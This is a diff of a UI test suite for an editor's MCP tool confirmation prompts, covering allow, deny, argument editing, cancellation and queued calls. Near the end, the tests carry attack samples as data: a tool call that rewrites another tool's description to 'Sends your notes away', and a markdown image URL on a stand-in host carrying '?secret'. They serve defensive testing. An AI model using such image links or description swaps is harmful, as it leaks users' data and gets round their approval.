@@ -18,7 +18,7 @@ describe('tools', function () {
     await chat.send('@mcp call calculate {"operation":"add","x":2,"y":3}');
     await quickPick.waitForTitle('demo › calculate');
     await workbench().screenshot('tools-confirm');
-    await quickPick.pick('Allow once');
+    await quickPick.pick('Allow Once');
     assert.match(await chat.completed(), /The tool says: [^]*5\.00/);
     await workbench().screenshot('tools-answer');
   });
@@ -46,21 +46,38 @@ describe('tools', function () {
     assert.match(await chat.completed(), /was denied and not called/);
   });
 
-  it('enough of a choice that is typed takes it', async () => {
+  it('a typed choice takes nothing, an arrow and a click do', async () => {
     const { chat, quickPick, page } = workbench();
     await chat.send('@mcp call calculate {"operation":"add","x":31,"y":3}');
     await quickPick.waitForTitle('demo › calculate');
-    await page.keyboard.type('allow once');
-    await quickPick.waitForActive('Allow once');
+    await page.keyboard.type('always allow');
     await page.keyboard.press('Enter');
+    await quickPick.waitForActive('Deny');
+    await quickPick.pick('Allow Once');
     assert.match(await chat.completed(), /34\.00/);
+  });
+
+  it('the palette and a file picker over a question deny nothing, and it comes back', async () => {
+    const { chat, quickPick, page } = workbench();
+    await chat.send('@mcp call calculate {"operation":"add","x":32,"y":3}');
+    await quickPick.waitForTitle('demo › calculate');
+    for (const key of ['F1', 'Control+P']) {
+      await page.keyboard.press(key);
+      await page.getByText('1 call waits for your answer').waitFor();
+      await quickPick.widget.locator('.quick-input-title').waitFor({ state: 'hidden' });
+      await page.keyboard.press('Escape');
+      if (key === 'Control+P') await page.getByText('1 call waits for your answer').click();
+      await quickPick.waitForTitle('demo › calculate');
+    }
+    await quickPick.pick('Allow Once');
+    assert.match(await chat.completed(), /35\.00/);
   });
 
   it('a reason for a denial reaches the model', async () => {
     const { chat, quickPick } = workbench();
     await chat.send('@mcp call calculate {"operation":"add","x":40,"y":3}');
     await quickPick.waitForTitle('demo › calculate');
-    await quickPick.pick('Deny and tell the model why…');
+    await quickPick.pick('Deny and Tell the Model Why…');
     await quickPick.waitForTitle('Deny');
     await quickPick.type('Use the other calculator');
     await quickPick.accept();
@@ -71,15 +88,15 @@ describe('tools', function () {
     const { chat, quickPick, page } = workbench();
     await chat.send('@mcp call echo {"said":"by the model"}');
     await quickPick.waitForTitle('demo › echo');
-    await quickPick.pick('Edit arguments…');
+    await quickPick.pick('Edit Arguments…');
     assert.match(await workbench().editorText('echo.json'), /by the model/);
-    await page.getByRole('button', { name: 'Run once' }).first().waitFor();
+    await page.getByRole('button', { name: 'Run Once' }).first().waitFor();
     await workbench().screenshot('tools-edit');
     await page.locator('.editor-instance .view-line').filter({ hasText: 'by the model' }).click();
     await page.keyboard.press('Control+A');
     await page.keyboard.press('Delete');
     await page.keyboard.insertText('{ "said": "by the person", "twice": [1, 2] }');
-    await page.locator('.codelens-decoration a').filter({ hasText: 'Run once' }).click();
+    await page.locator('.codelens-decoration a').filter({ hasText: 'Run Once' }).click();
     const answer = await chat.completed();
     assert.match(answer, /\{"said":"by the person","twice":\[1,2\]\}/);
     assert.match(answer, /as you edited them/);
@@ -87,13 +104,15 @@ describe('tools', function () {
     await page.locator('.tab').filter({ hasText: 'echo.json' }).waitFor({ state: 'hidden' });
   });
 
-  it('closing the document with the arguments denies the call', async () => {
+  it('closing the document with the arguments leads back to the question', async () => {
     const { chat, quickPick } = workbench();
     await chat.send('@mcp call echo {"said":"never"}');
     await quickPick.waitForTitle('demo › echo');
-    await quickPick.pick('Edit arguments…');
+    await quickPick.pick('Edit Arguments…');
     await workbench().editorText('echo.json');
     await workbench().closeEditor();
+    await quickPick.waitForTitle('demo › echo');
+    await quickPick.pick('Deny');
     assert.match(await chat.completed(), /was denied and not called/);
   });
 
@@ -101,7 +120,7 @@ describe('tools', function () {
     const { chat, quickPick } = workbench();
     await chat.send('@mcp call read_note {"name":"todo"}');
     await quickPick.waitForTitle('demo › Read Note');
-    await quickPick.pick('Always allow');
+    await quickPick.pick('Always Allow');
     await chat.completed();
     await chat.send('@mcp call read_note {"name":"other"}');
     assert.match(await chat.completed(), /No note other/);
@@ -109,7 +128,7 @@ describe('tools', function () {
       '@mcp call change_description {"tool":"read_note","description":"Sends your notes away"}',
     );
     await quickPick.waitForTitle('demo › change_description');
-    await quickPick.pick('Allow once');
+    await quickPick.pick('Allow Once');
     await chat.completed();
     await chat.send('@mcp call read_note {"name":"todo"}');
     await quickPick.waitForTitle('demo › Read Note');
@@ -129,7 +148,7 @@ describe('tools', function () {
     const { chat, quickPick, page } = workbench();
     await chat.send('@mcp call long_task {"durationMs":600000,"steps":600}');
     await quickPick.waitForTitle('demo › Long Task');
-    await quickPick.pick('Allow once');
+    await quickPick.pick('Allow Once');
     const notification = await workbench().notification('demo › Long Task');
     await workbench().screenshot('tools-running');
     await notification.getByRole('button', { name: 'Cancel' }).click();
@@ -137,7 +156,7 @@ describe('tools', function () {
     assert.match(await chat.completed(), /was cancelled/);
     await chat.send('@mcp call cancelled_count {}');
     await quickPick.waitForTitle('demo › cancelled_count');
-    await quickPick.pick('Allow once');
+    await quickPick.pick('Allow Once');
     assert.match(await chat.completed(), /The tool says: [^]*\b1\b/);
     await page.keyboard.press('Escape');
   });
@@ -146,7 +165,7 @@ describe('tools', function () {
     const { chat, quickPick, page } = workbench();
     await chat.send('@mcp call long_task {"durationMs":8000,"steps":8}');
     await quickPick.waitForTitle('demo › Long Task');
-    await quickPick.pick('Allow once');
+    await quickPick.pick('Allow Once');
     await page.locator('.statusbar-item').filter({ hasText: 'demo › Long Task' }).click();
     await quickPick.waitForTitle('Running Tools');
     await quickPick.item('demo › Long Task').hover();
@@ -164,7 +183,7 @@ describe('tools', function () {
     const { chat, quickPick } = workbench();
     await chat.send('@mcp call echo {"n":1} and call echo {"n":2} and call echo {"n":3}');
     await quickPick.waitForTitle('demo › echo (1 of 3)');
-    await quickPick.pick('Allow once');
+    await quickPick.pick('Allow Once');
     await quickPick.waitForTitle('demo › echo (1 of 2)');
     await workbench().screenshot('tools-queue');
     await quickPick.pick('Deny all 2');
@@ -189,7 +208,7 @@ describe('tools', function () {
     await quickPick.type('7');
     await quickPick.accept();
     await quickPick.waitForTitle('demo › calculate');
-    await quickPick.pick('Allow once');
+    await quickPick.pick('Allow Once');
     assert.match(await workbench().editorText('calculate.txt'), /42\.00/);
   });
 
@@ -197,7 +216,7 @@ describe('tools', function () {
     const { chat, quickPick, page } = workbench();
     await chat.send('@mcp call get_image {}');
     await quickPick.waitForTitle('demo › get_image');
-    await quickPick.pick('Allow once');
+    await quickPick.pick('Allow Once');
     await chat.completed();
     await chat.answer.getByText('Show Result of demo › get_image').click();
     const preview = page.frameLocator('iframe.webview.ready').frameLocator('iframe');
@@ -216,7 +235,7 @@ describe('tools', function () {
     const image = '![leak](https://example.invalid/leak.png?secret)';
     await chat.send(`@mcp call echo {"text":"${image}"}`);
     await quickPick.waitForTitle('demo › echo');
-    await quickPick.pick('Allow once');
+    await quickPick.pick('Allow Once');
     await chat.completed();
     await workbench().screenshot('tools-image-address');
     assert.deepEqual(
